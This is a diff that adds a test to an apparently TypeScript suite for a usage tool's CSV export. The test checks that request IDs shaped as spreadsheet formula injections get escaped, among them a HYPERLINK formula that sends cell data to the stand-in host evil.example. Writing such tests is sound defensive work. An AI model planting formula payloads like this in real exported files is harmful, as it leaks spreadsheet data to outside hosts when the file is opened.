@@ -111,6 +111,31 @@ test("export prints CSV as RFC 4180 has it", async (t) => {
   assert.equal(out.length, 3);
 });
 
+test("a spreadsheet takes no request id of a CSV for a formula", async (t) => {
+  const { run, meter } = await twoCharges(t);
+  const ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "a=1"];
+  for (const requestId of ids) {
+    const charge = { surface: "chat", method: "completions", costMilli: 1 };
+    await take(meter, principalOf(), 1, { requestId }).settle([charge]);
+  }
+  const { out } = await run(usage, "export", "--format", "csv");
+  const shown = out
+    .slice(3)
+    .map((line) => line.replace(/^(?:[^,]*,){7}/, "").replace(/,1,0.*/s, ""));
+  assert.deepEqual(shown, [
+    `"'=HYPERLINK(""http://evil.example/?""&A1)"`,
+    "'+1",
+    "'-1",
+    "'@SUM(A1)",
+    "a=1",
+  ]);
+  const json = await run(usage, "export");
+  assert.deepEqual(
+    json.out.slice(2).map((line) => (JSON.parse(line) as { request_id: string }).request_id),
+    ids,
+  );
+});
+
 test("export takes a range", async (t) => {
   const { run } = await twoCharges(t);
   const count = async (...argv: string[]): Promise<number> => {
